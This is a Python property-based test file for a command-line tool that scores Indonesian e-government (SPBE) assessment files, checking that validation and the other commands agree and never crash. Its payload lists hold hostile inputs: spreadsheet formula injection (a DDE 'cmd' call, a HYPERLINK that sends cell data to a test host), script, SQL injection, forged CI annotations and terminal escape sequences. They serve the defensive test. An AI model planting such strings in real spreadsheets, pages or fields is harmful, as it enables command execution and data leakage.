"""`spbe validate` calls a file valid if and only if every other command can process it.

Random documents, valid ones with hostile text in every text field and mutated ones, in YAML,
JSON and TOML: validate judges each; a valid one then goes through score, diff, rank, plan and
report in every output format, and none may end in an internal error (exit 3) or an exception.
An invalid one is refused by score too (exit 2): the two commands never disagree.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import hypothesis.strategies as st
import pytest
import tomli_w
import yaml
from conftest import bundled
from hypothesis import HealthCheck, event, given, settings
from typer.testing import CliRunner

from spbe_cli.cli.main import app
from spbe_cli.render.registry import formats

pytestmark = pytest.mark.slow  # hypothesis through every command and format: tens of seconds

RUBRIC = bundled("permenpanrb-59-2020")
runner = CliRunner()
SETTINGS = settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
PAYLOADS = [  # text that means something to some output, and is fine in a file
    '=HYPERLINK("http://x.test/?d="&B2,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1",
    "@SUM(A1)",
    "Kota [x]",
    "Kota [/x]",
    "[link=http://x.test]L[/link]",
    "[bold red]merah",
    "::error file=a.yaml,line=1::forged",
    "- Indeks SPBE: 4.80 · Predikat: Memuaskan",
    "<!-- tersembunyi",
    "<script>alert(1)</script>",
    "a | b | c",
    "`kode` *miring* _garis_ # judul",
    "١٢",
    "²",
    "{{ jinja }} {% if %}",
    "' OR 1=1; --",
    "Ærø İstanbul 東京 😀",
    " spasi di tepi ",
    "x" * 300,
]
REFUSED = [  # text validation refuses (SPBE112): controls, bidi, line breaks in names
    "Kota\n::error file=a.yaml,line=1::forged",
    "\x1b[2J\x1b]8;;http://x.test\x07L\x1b]8;;\x07",
    "\r=1",
    "\t=1",
    "Kota \u202eatoK",
    "\x00\x0b\x85",
    "Kota\u2028Contoh",
]
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FINE = st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters=BIDI + "\u2028\u2029")
fine_text = st.text(FINE, max_size=20) | st.sampled_from(PAYLOADS)
refused_text = st.sampled_from(REFUSED) | st.text(min_size=1, max_size=8).map(lambda t: t + "\x1b")
json_refused = refused_text | st.sampled_from(["Kota \ud800", "\udc00"])


@st.composite
def documents(draw: st.DrawFn, refused: st.SearchStrategy[str]) -> dict[str, Any]:
    """A valid document full of text outputs care about; now and then one field refused or
    one value of the wrong kind, so both answers of validate are drawn about equally."""
    text = fine_text
    indicators: dict[str, Any] = {}
    for ind in RUBRIC.indicators:
        level = draw(st.integers(RUBRIC.level_min, RUBRIC.level_max))
        if draw(st.integers(0, 4)):
            indicators[ind.key] = level
        else:
            evidence = draw(st.lists(text, max_size=2))
            indicators[ind.key] = {
                "level": level,
                "penjelasan": draw(text),
                "bukti_dukung": evidence,
            }
    agency: dict[str, Any] = {"nama": draw(text), "provinsi": draw(text)}
    agency["jenis"] = draw(st.sampled_from(RUBRIC.agency_kinds))
    doc: dict[str, Any] = {
        "rubrik": RUBRIC.id,
        "instansi": agency if draw(st.booleans()) else agency["nama"],
        "tahun": draw(st.integers(2018, 2030)),
        "tahap": draw(st.sampled_from(RUBRIC.stages)),
        "indikator": indicators,
    }
    spoil = draw(st.sampled_from(["none", "none", "text", "value"]))
    if spoil == "text":
        where = draw(st.sampled_from(["nama", "provinsi", "penjelasan", "bukti"]))
        bad = draw(refused)
        if where in ("nama", "provinsi"):
            agency[where] = bad
            doc["instansi"] = agency
        else:
            key = draw(st.sampled_from([i.key for i in RUBRIC.indicators]))
            claim = {"level": 3, "penjelasan": bad} if where == "penjelasan" else {"level": 3}
            claim["bukti_dukung"] = [bad] if where == "bukti" else []
            indicators[key] = claim
    elif spoil == "value":
        key = draw(st.sampled_from(["tahun", "tahap", "rubrik", "extra", "indikator"]))
        doc[key] = draw(st.integers(-5, 10**6) | text | st.just({"1": 9}))
    return doc


def _dump(doc: dict[str, Any], fmt: str) -> str:
    if fmt == "json":
        return json.dumps(doc, ensure_ascii=True)  # escapes, surrogate halves included
    if fmt == "toml":
        return tomli_w.dumps(_no_nulls(doc))
    return yaml.safe_dump(doc, allow_unicode=True)


def _no_nulls(value: Any) -> Any:
    """TOML has no null: drop them (the document is then missing that key instead)."""
    if isinstance(value, dict):
        return {str(k): _no_nulls(v) for k, v in value.items() if v is not None}
    if isinstance(value, list):
        return [_no_nulls(v) for v in value if v is not None]
    return value


def _later(doc: dict[str, Any]) -> dict[str, Any]:
    """The next year's file of the same agency: some levels up, the same hostile names."""
    later = json.loads(json.dumps(doc))
    if isinstance(later.get("tahun"), int):
        later["tahun"] += 1
    for key, claim in list(later["indikator"].items())[::3]:
        if isinstance(claim, int):
            later["indikator"][key] = min(claim + 1, RUBRIC.level_max)
    return later


def _no_crash(args: list[str]) -> int:
    result = runner.invoke(app, args)
    assert result.exit_code != 3, (args, result.stderr)
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        args,
        result.exception,
    )
    return result.exit_code


def _every_command(path: Path, later: Path, out: Path) -> None:
    for fmt in formats("score"):
        extra = ["-o", str(out / f"score.{fmt}"), "--force"] if fmt == "xlsx" else []
        assert _no_crash(["score", str(path), "-f", fmt, *extra]) == 0, fmt
    for command, files in (("diff", [path, later]), ("rank", [path.parent])):
        for fmt in formats(command):
            extra = ["-o", str(out / f"{command}.{fmt}"), "--force"] if fmt == "xlsx" else []
            code = _no_crash([command, *map(str, files), "-f", fmt, *extra])
            assert code == 0, (command, fmt)
    for fmt in formats("plan"):
        assert _no_crash(["plan", str(path), "--target", "4.2", "-f", fmt]) in (0, 1), fmt
    assert _no_crash(["report", str(path), str(later), "-o", str(out / "r.html"), "--force"]) == 0


def _check(tmp_path: Path, doc: dict[str, Any], fmt: str) -> None:
    folder = tmp_path / "round"
    folder.mkdir(exist_ok=True)
    for old in folder.iterdir():
        old.unlink()
    path = folder / f"a.{fmt}"
    try:
        path.write_text(_dump(doc, fmt), encoding="utf-8", errors="surrogatepass")
    except (TypeError, ValueError):
        return  # not writable in this format (TOML: mixed lists and the like)
    validated = _no_crash(["validate", str(path)])
    scored = _no_crash(["score", str(path), "-f", "json"])
    assert (validated, scored) in ((0, 0), (1, 2)), (validated, scored)
    event(f"{fmt} {'valid' if validated == 0 else 'invalid'}")
    if validated != 0:
        return
    later = tmp_path / f"later.{fmt}"
    later.write_text(_dump(_later(doc), fmt), encoding="utf-8", errors="surrogatepass")
    _every_command(path, later, tmp_path)


@SETTINGS
@given(doc=documents(refused_text), fmt=st.sampled_from(["yaml", "toml"]))
def test_valid_yaml_and_toml_work_everywhere(tmp_path: Path, doc: dict[str, Any], fmt: str):
    _check(tmp_path, doc, fmt)


@SETTINGS
@given(doc=documents(json_refused))
def test_valid_json_works_everywhere(tmp_path: Path, doc: dict[str, Any]) -> None:
    _check(tmp_path, doc, "json")
